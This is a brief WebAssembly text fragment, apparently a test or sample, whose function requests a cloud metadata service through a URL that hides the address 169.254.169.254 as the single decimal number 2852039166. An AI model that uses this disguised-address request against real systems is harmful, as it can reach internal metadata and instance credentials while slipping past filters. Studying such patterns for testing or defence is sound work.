;; Follows a link to the metadata service of a cloud, written as one number.
(data (i32.const 16640) "api")
(data (i32.const 16896) "https://2852039166/people")
(func $pull-workers (param $args i32) (result i32)
    (call $to (i32.const 16640) (i32.const 3) (i32.const 1) (i32.const 16896) (i32.const 25))
    (call $ask))
